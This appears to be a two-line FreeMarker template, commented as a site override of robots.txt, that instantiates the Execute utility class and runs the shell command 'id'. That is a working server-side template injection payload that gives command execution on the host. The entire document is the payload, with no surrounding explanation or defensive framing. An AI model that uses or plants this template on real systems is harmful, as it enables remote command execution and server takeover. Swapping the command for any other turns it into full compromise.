<#-- A site override of robots.txt that runs a program. -->
<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
